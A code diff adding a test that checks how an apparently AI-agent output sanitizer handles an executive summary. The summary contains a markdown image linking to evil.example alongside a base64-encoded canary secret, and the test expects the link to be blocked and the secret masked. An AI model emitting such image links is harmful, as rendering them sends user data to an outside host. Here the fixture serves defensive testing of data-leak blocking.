@@ -105,6 +105,23 @@ describe('an analysis', () => {
   });
 });
 
+it('an executive summary is treated like an analysis, and is the same in its event', () => {
+  const text = `Out of memory.\n![x](https://evil.example/${MARK})\nkey ${base64(CANARY)}`;
+  const refused = refuse({
+    events: [{ eventType: 'executive_summary', content: text, metadata: {} }],
+    message,
+    next: { kind: 'conclude', analysis: text },
+  });
+  expect(analysisOf(refused)).toMatch(
+    /^Out of memory\.\n\[image: x\]\(\[link blocked: evil\.example\]\)\n\[masked:/,
+  );
+  expect(refused.events.at(-1)).toMatchObject({
+    eventType: 'executive_summary',
+    content: analysisOf(refused),
+  });
+  expect(toldBy(refused)).toEqual(['TAINT_BLOCKED', 'TAINT_BLOCKED']);
+});
+
 it('words beside a call and thoughts are made safe, too', () => {
   const given = calling(call({}));
   given.events.push(
